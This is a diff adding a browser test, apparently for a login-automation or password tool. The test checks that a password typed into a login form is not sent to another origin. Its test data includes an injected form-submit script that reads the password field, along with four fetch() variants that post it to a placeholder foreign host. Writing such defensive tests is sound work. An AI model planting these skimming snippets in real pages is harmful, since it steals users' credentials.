@@ -265,6 +265,34 @@ def test_what_a_script_has_sent_is_not_sent_on_and_figures_of_its_use_are_let_go
     assert run(work, pages) == [("127.0.0.1", SECRET), ("localhost", "a click")]
 
 
+@browser
+@pytest.mark.parametrize(
+    "sending",
+    [
+        "fetch('{other}/x', {method: 'POST', mode: 'no-cors', body: text})",
+        "fetch('{other}/x', {method: 'POST', body: JSON.stringify({a: [text]})})",
+        "fetch('{other}/x', {method: 'POST', body: new URLSearchParams({a: text})})",
+        "fetch('{other}/x?a=' + encodeURIComponent(text), {mode: 'no-cors'})",
+    ],
+)
+def test_a_script_sends_the_password_to_no_other_origin(sending: str) -> None:
+    script = f"""<script>
+        document.querySelector('form').addEventListener('submit', event => {{
+            event.preventDefault();
+            const text = document.querySelector('#passwordInput').value;
+            {sending};
+        }});
+    </script>"""
+
+    async def work(page: Page, site: Site, server: Server) -> Any:
+        with pytest.raises(SiteMoved, match="Login leads to http://localhost"):
+            await log_in(page, "me", SECRET, site, list)
+        await asyncio.sleep(0.2)
+        return server.posted
+
+    assert run(work, {"127.0.0.1/login": login() + script}) in ([], set())
+
+
 # Pressing
 
 
